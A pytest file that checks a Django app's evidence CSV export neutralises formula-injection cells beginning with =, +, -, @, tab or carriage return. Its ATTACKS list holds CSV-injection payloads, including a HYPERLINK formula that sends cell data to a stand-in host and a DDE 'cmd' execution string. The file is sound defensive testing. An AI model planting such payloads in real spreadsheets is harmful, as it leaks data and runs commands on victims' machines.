"""Evidence CSVs carry no live spreadsheet formula: cells starting with =, +, -, @, a tab or a
carriage return are neutralised; numbers stay numbers."""

import csv
import io
import zipfile

import pytest

from recognition.reporting import evidence
from tests.factories import make_active_purpose

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
]


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("name", ATTACKS)
def test_a_formula_in_a_purpose_name_is_not_live_in_any_csv(building_a, admin_a, name):
    make_active_purpose(building_a, admin_a, name=name, specific_purpose=name)
    archive = zipfile.ZipFile(io.BytesIO(evidence.build_zip([building_a.pk], admin_a)))
    seen = 0
    for member in archive.namelist():
        if not member.endswith(".csv"):
            continue
        for row in _rows(archive.read(member)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (member, cell)
                if cell == "'" + name:
                    seen += 1
    assert seen >= 2  # purposes.csv and consent_figures.csv name the purpose, neutralised


def test_numbers_and_plain_text_are_left_alone():
    assert evidence.neutral_cell(-3) == -3
    assert evidence.neutral_cell(0.25) == 0.25
    assert evidence.neutral_cell("Lobby") == "Lobby"
    assert evidence.neutral_cell(None) == ""
    assert evidence.neutral_cell("\t=1") == "'\t=1"
